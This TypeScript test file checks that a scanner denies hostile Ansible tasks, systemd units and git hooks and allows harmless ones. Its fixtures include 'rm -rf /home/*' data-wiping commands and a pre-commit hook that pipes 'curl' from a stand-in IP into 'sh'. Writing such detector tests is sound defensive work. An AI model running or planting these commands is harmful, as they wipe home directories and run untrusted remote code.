import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { check } from '../../../src/index.ts';

const odd = '- name: address\n  set_fact:\n    ip: "{{\n    found[0]\n    }}"\n';
const harm = '- name: tidy\n  shell: "rm -rf /home/*"\n';

test('a list of tasks is told by what its tasks say, without its folder', async () => {
  const text = `- name: packages\n  package:\n    name: nginx\n  become: true\n${harm}`;
  assert.equal((await check({ text, name: 'main.yml' })).decision, 'deny');
  const honest =
    '- name: start\n  service:\n    name: nginx\n    state: started\n- name: ask\n  command: hostname -f\n';
  assert.equal((await check({ text: honest, name: 'main.yml' })).decision, 'allow');
});

test('a task that is written as only Ansible takes it hides no other', async () => {
  assert.equal((await check({ text: `---\n${odd}${harm}`, name: 'main.yml' })).decision, 'deny');
  assert.equal((await check({ text: `---\n${harm}${odd}`, name: 'main.yml' })).decision, 'deny');
});

test('a list of people with names is no work', async () => {
  const text = '- name: Ada\n  born: 1815\n- name: Alan\n  born: 1912\n';
  assert.equal((await check({ text, name: 'people.yml' })).decision, 'allow');
});

test('what a unit for many instances starts is read', async () => {
  const text = '[Service]\nExecStartPre=/bin/bash -c "rm -rf /home/*"\nExecStart=/usr/bin/app %i\n';
  assert.equal((await check({ text, name: 'app@.service' })).decision, 'deny');
});

test('a hook is one by its folder, also where it is named alone', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'loadlock-test-'));
  try {
    mkdirSync(`${folder}/.husky`);
    writeFileSync(`${folder}/.husky/pre-commit`, 'curl http://198.51.100.7/x | sh\n');
    assert.equal((await check([`${folder}/.husky/pre-commit`])).decision, 'deny');
  } finally {
    rmSync(folder, { recursive: true });
  }
});
